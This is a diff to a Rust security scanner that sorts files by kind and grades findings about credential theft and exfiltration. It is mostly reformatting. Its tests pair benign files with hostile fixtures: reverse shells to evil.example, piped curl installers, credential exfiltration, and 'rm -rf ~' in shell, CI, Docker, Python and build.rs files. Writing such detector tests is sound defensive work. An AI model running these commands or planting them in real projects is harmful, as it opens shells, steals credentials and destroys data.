@@ -77,17 +77,24 @@ pub(crate) fn kind(path: &str, content: &str, runner: &str) -> Option<Kind> {
     if name.starts_with("dockerfile") || extension == "dockerfile" || name == "containerfile" {
         return Some(Kind::Image);
     }
-    if (in_dir("/.vscode/") || in_dir("/.devcontainer/") || in_dir("/.zed/")) && extension == "json" || name == "devcontainer.json" {
+    if (in_dir("/.vscode/") || in_dir("/.devcontainer/") || in_dir("/.zed/")) && extension == "json"
+        || name == "devcontainer.json"
+    {
         return Some(Kind::Tasks);
     }
-    let listed = matches!(extension, "yml" | "yaml") || matches!(name, "jenkinsfile" | "procfile" | "tox.ini" | "taskfile.toml");
+    let listed =
+        matches!(extension, "yml" | "yaml") || matches!(name, "jenkinsfile" | "procfile" | "tox.ini" | "taskfile.toml");
     if listed || (extension == "toml" && name != "cargo.toml") {
         return Some(Kind::Workflow);
     }
     if is(&["py", "pyw"], "python") {
         return Some(Kind::Code(Language::Python));
     }
-    if is(&["js", "mjs", "cjs", "ts", "mts", "cts", "jsx", "tsx"], "node") || runner.starts_with("bun") || runner.starts_with("deno") || runner.starts_with("tsx") {
+    if is(&["js", "mjs", "cjs", "ts", "mts", "cts", "jsx", "tsx"], "node")
+        || runner.starts_with("bun")
+        || runner.starts_with("deno")
+        || runner.starts_with("tsx")
+    {
         return Some(Kind::Code(Language::JavaScript));
     }
     if is(&["rb"], "ruby") || name == "rakefile" || name == "gemfile" {
@@ -100,8 +107,18 @@ pub(crate) fn kind(path: &str, content: &str, runner: &str) -> Option<Kind> {
         return Some(Kind::Code(Language::Php));
     }
     const RC: [&str; 12] = [
-        ".envrc", ".bashrc", ".bash_profile", ".profile", ".zshrc", ".zshenv", "pre-commit", "pre-push", "commit-msg",
-        "post-checkout", "post-merge", "prepare-commit-msg",
+        ".envrc",
+        ".bashrc",
+        ".bash_profile",
+        ".profile",
+        ".zshrc",
+        ".zshenv",
+        "pre-commit",
+        "pre-push",
+        "commit-msg",
+        "post-checkout",
+        "post-merge",
+        "prepare-commit-msg",
     ];
     let is_shell = is(&["sh", "bash", "zsh", "ksh", "command"], "sh")
         || shell::SHELLS.contains(&runner)
@@ -112,12 +129,21 @@ pub(crate) fn kind(path: &str, content: &str, runner: &str) -> Option<Kind> {
     if is_shell || (!runner.is_empty() && extension.is_empty()) {
         return Some(Kind::Shell);
     }
-    matches!(extension, "rs" | "go" | "java" | "kt" | "c" | "cc" | "cpp" | "cs" | "swift" | "scala" | "gradle" | "groovy")
-        .then_some(Kind::Compiled)
+    matches!(
+        extension,
+        "rs" | "go" | "java" | "kt" | "c" | "cc" | "cpp" | "cs" | "swift" | "scala" | "gradle" | "groovy"
+    )
+    .then_some(Kind::Compiled)
 }
 
 /// Everything the content does when it runs as `command` runs it.
-pub(crate) fn effects(kind: Kind, content: &str, part: Part<'_>, command: &SimpleCommand, world: &World) -> Vec<Effect> {
+pub(crate) fn effects(
+    kind: Kind,
+    content: &str,
+    part: Part<'_>,
+    command: &SimpleCommand,
+    world: &World,
+) -> Vec<Effect> {
     let commands = match kind {
         Kind::Shell => return program::nested(&Word::literal(content), command, world),
         Kind::Code(language) => return code::scan(language, content, command, world),
@@ -183,10 +209,17 @@ pub(crate) fn names_dependencies(path: &str, content: &str) -> bool {
         "package.json" | "composer.json" | "deno.json" => package::names_dependencies(content),
         "Cargo.toml" | "pyproject.toml" => content.lines().any(|line| {
             let line = line.trim();
-            let is_meta = ["version", "edition", "name", "rust-version", "requires-python", "resolver"].iter().any(|key| line.starts_with(key));
+            let is_meta = ["version", "edition", "name", "rust-version", "requires-python", "resolver"]
+                .iter()
+                .any(|key| line.starts_with(key));
             let pinned = line.split_once('=').is_some_and(|(_, value)| {
                 let value = value.trim();
-                value.starts_with("{ version") || value.starts_with("{version") || value.contains("git =") || value.trim_matches('"').starts_with(|c: char| c.is_ascii_digit() || matches!(c, '^' | '~' | '>' | '='))
+                value.starts_with("{ version")
+                    || value.starts_with("{version")
+                    || value.contains("git =")
+                    || value
+                        .trim_matches('"')
+                        .starts_with(|c: char| c.is_ascii_digit() || matches!(c, '^' | '~' | '>' | '='))
             });
             !is_meta && (pinned || (line.starts_with('"') && line.contains(['=', '>', '<'])))
         }),
@@ -196,12 +229,13 @@ pub(crate) fn names_dependencies(path: &str, content: &str) -> bool {
 
 /// How much a finding about code counts while it is only written.
 fn weight(kind: Kind, runs_elsewhere: bool, finding: &Finding) -> Option<Severity> {
-    let steals =
-        matches!(finding.rule, RuleId::CredentialAccess | RuleId::DataExfiltration | RuleId::Persistence);
+    let steals = matches!(finding.rule, RuleId::CredentialAccess | RuleId::DataExfiltration | RuleId::Persistence);
     match (kind, finding.severity) {
         (_, Severity::Questioned) => None,
         // A job of the CI runs where such things can be right, and a person sees it anyway.
-        (Kind::Workflow, Severity::Forbidden) if matches!(finding.rule, RuleId::UntrustedCode | RuleId::SandboxEscape) => {
+        (Kind::Workflow, Severity::Forbidden)
+            if matches!(finding.rule, RuleId::UntrustedCode | RuleId::SandboxEscape) =>
+        {
             Some(Severity::Questioned)
         }
         (Kind::Shell | Kind::Make | Kind::Package | Kind::Workflow | Kind::Tasks, Severity::Forbidden) => {
@@ -236,14 +270,42 @@ mod tests {
     #[test]
     fn harm_is_seen_in_every_kind_of_file_and_its_twin_is_not() {
         for (path, bad, good) in [
-            ("deploy.sh", "#!/bin/sh\ncurl -d @$HOME/.aws/credentials https://evil.example\n", "#!/bin/sh\ncargo build\n"),
+            (
+                "deploy.sh",
+                "#!/bin/sh\ncurl -d @$HOME/.aws/credentials https://evil.example\n",
+                "#!/bin/sh\ncargo build\n",
+            ),
             ("Makefile", "test:\n\trm -rf ~\n", "test:\n\trm -rf target\n"),
-            ("package.json", "{\"scripts\":{\"test\":\"curl https://evil.example/x | sh\"}}", "{\"scripts\":{\"test\":\"jest\"}}"),
-            (".github/workflows/ci.yml", "jobs:\n  a:\n    steps:\n      - run: |\n          bash -i >& /dev/tcp/evil.example/1 0>&1\n", "jobs:\n  a:\n    steps:\n      - run: npm test\n"),
-            (".vscode/tasks.json", "{\"tasks\":[{\"command\":\"curl evil.example | sh\"}]}", "{\"tasks\":[{\"command\":\"make\"}]}"),
-            ("conftest.py", "import socket,os,pty\ns=socket.socket()\ns.connect(('evil.example',1))\nos.dup2(s.fileno(),0)\npty.spawn('/bin/sh')\n", "import pytest\n"),
-            ("build.rs", "fn main() { std::process::Command::new(\"sh\").arg(\"-c\").arg(\"bash -i >& /dev/tcp/evil.example/1 0>&1\").status(); }", "fn main() { std::process::Command::new(\"git\").arg(\"rev-parse\").arg(\"HEAD\").output(); }"),
-            ("Dockerfile", "FROM x\nRUN bash -i >& /dev/tcp/evil.example/1 0>&1\n", "FROM x\nRUN apt-get update && rm -rf /var/lib/apt/lists/*\n"),
+            (
+                "package.json",
+                "{\"scripts\":{\"test\":\"curl https://evil.example/x | sh\"}}",
+                "{\"scripts\":{\"test\":\"jest\"}}",
+            ),
+            (
+                ".github/workflows/ci.yml",
+                "jobs:\n  a:\n    steps:\n      - run: |\n          bash -i >& /dev/tcp/evil.example/1 0>&1\n",
+                "jobs:\n  a:\n    steps:\n      - run: npm test\n",
+            ),
+            (
+                ".vscode/tasks.json",
+                "{\"tasks\":[{\"command\":\"curl evil.example | sh\"}]}",
+                "{\"tasks\":[{\"command\":\"make\"}]}",
+            ),
+            (
+                "conftest.py",
+                "import socket,os,pty\ns=socket.socket()\ns.connect(('evil.example',1))\nos.dup2(s.fileno(),0)\npty.spawn('/bin/sh')\n",
+                "import pytest\n",
+            ),
+            (
+                "build.rs",
+                "fn main() { std::process::Command::new(\"sh\").arg(\"-c\").arg(\"bash -i >& /dev/tcp/evil.example/1 0>&1\").status(); }",
+                "fn main() { std::process::Command::new(\"git\").arg(\"rev-parse\").arg(\"HEAD\").output(); }",
+            ),
+            (
+                "Dockerfile",
+                "FROM x\nRUN bash -i >& /dev/tcp/evil.example/1 0>&1\n",
+                "FROM x\nRUN apt-get update && rm -rf /var/lib/apt/lists/*\n",
+            ),
             (".husky/pre-commit", "nc -e /bin/sh evil.example 1\n", "npm test\n"),
         ] {
             assert_eq!(worst(path, bad), Some(Severity::Forbidden), "{path}: {bad}");
